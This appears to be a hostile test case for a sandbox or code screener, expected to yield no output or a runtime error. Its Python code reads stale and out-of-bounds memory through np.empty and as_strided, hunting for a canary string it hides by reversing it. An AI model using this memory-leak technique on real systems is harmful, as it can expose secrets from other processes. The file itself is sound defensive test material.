# hostile: read freed memory through np.empty and strides out of bounds, which no screen sees
# expect: no_output, runtime_error
# canary: earlier
import numpy as np

sought = np.frombuffer("@REILRAE@"[::-1].encode(), dtype=np.uint8)


def search(memory):
    places = np.flatnonzero(memory[: 1 - len(sought)] == sought[0])
    for place in places:
        if (memory[place : place + len(sought)] == sought).all():
            print(bytes(memory[place : place + 64]))


kept = [np.empty(size, dtype=np.uint8) for size in [64, 200, 500, 1000, 5000, 20_000, 90_000, 400_000] * 50]
for memory in kept:
    search(memory)
low = min(memory.ctypes.data for memory in kept[:150])
first = next(memory for memory in kept if memory.ctypes.data == low)
for size in (1 << 16, 1 << 18, 1 << 20, 1 << 21):
    search(np.lib.stride_tricks.as_strided(first, shape=(size,), strides=(1,)))
